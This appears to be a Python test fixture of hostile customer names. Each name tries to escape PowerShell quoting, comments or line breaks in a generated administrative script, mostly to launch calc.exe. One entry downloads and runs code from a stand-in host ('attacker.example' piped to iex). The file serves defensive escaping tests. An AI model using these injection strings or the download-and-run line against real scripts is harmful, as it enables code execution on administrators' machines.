"""Names a tenant or customer could choose to turn a generated script against the administrator who runs it.

Each one tries a different way out of a PowerShell literal, comment or line: every quote character
PowerShell honours, comment terminators, sub-expressions, line and paragraph breaks, control and
format characters, escapes, and characters the grammar only knows through PowerShell's own mapping.
"""

from __future__ import annotations

PAYLOAD = "Start-Process calc.exe"

HOSTILE_NAMES: tuple[str, ...] = (
    f"Contoso #> {PAYLOAD} <#",
    "C2T-Intl\u2019; Invoke-WebRequest http://attacker.example/x | iex; \u2019",
    f"x'; {PAYLOAD}; '",
    f"x\u2018; {PAYLOAD}; \u2018",
    f"x\u201a; {PAYLOAD}; \u201a",
    f"x\u201b; {PAYLOAD}; \u201b",
    f"x''; {PAYLOAD}; ''",
    f"x\u2019'\u2018; {PAYLOAD} #",
    f"$({PAYLOAD})",
    f'"; {PAYLOAD}; "',
    f"\u201c; {PAYLOAD}; \u201d$({PAYLOAD})",
    f"x\n{PAYLOAD}",
    f"x\r\n{PAYLOAD}",
    f"x\r{PAYLOAD}",
    f"x\u2028{PAYLOAD}\u2029",
    f"x\u0085{PAYLOAD}",
    f"x\u000b\u000c{PAYLOAD}",
    f"x`'; {PAYLOAD}; `'",
    f"x' + ({PAYLOAD}) + '",
    "x' ; [System.Diagnostics.Process]::Start('calc') ; '",
    f"x #> {PAYLOAD} <# y",
    f"x\n#> {PAYLOAD} <#",
    "x\u202eexe.clac ssecorP-tratS\u202c",
    f"x\u0000; {PAYLOAD}",
    f"x\t-WhatIf:$false; {PAYLOAD}",
    f"x' \u2013WhatIf:$false; {PAYLOAD}; '",
    "${env:USERPROFILE}'; & calc.exe; '",
    f"@{{a=1}}'; {PAYLOAD}; '",
    f"x\u200b'\u200d; {PAYLOAD}; '",
    f"x\U0001f600'; {PAYLOAD}; '\U000e0001",
    f"x\ud800'; {PAYLOAD}; '",
)
